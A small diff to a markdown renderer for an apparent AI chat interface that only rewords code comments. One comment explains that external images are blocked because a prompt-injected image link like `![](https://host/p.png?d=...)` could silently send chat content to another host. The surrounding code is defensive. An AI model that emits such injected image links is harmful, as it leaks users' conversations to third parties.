@@ -8,7 +8,7 @@ import { StatusIcon, rehypeStatusIcons, type StatusKind } from './status-icons';
 
 /**
  * GFM for reading only: remark-gfm also registers GFM's markdown writer (mdast-util-to-markdown
- * and its handlers), which rendering never calls, ~6 KiB gzipped on the chat route (issue 14).
+ * and its handlers), which rendering never calls, ~6 KiB gzipped on the chat route (ADR 0011).
  */
 function remarkGfmParse(this: { data: () => object }): void {
   // The keys remark-parse reads (its types declare them; it is react-markdown's, not ours).
@@ -26,7 +26,7 @@ const rehypePlugins = [rehypeStatusIcons];
 /**
  * Whether an image may load by itself: same-origin (relative or this host), data:image or blob:.
  * Anything else would let a prompt-injected `![](https://host/p.png?d=...)` send chat content
- * to another host with no click, so it is shown as a link instead (issue 13, finding 8).
+ * to another host with no click, so it is shown as a link instead.
  */
 export function isLocalImage(src: string | undefined): boolean {
   if (!src) return false;
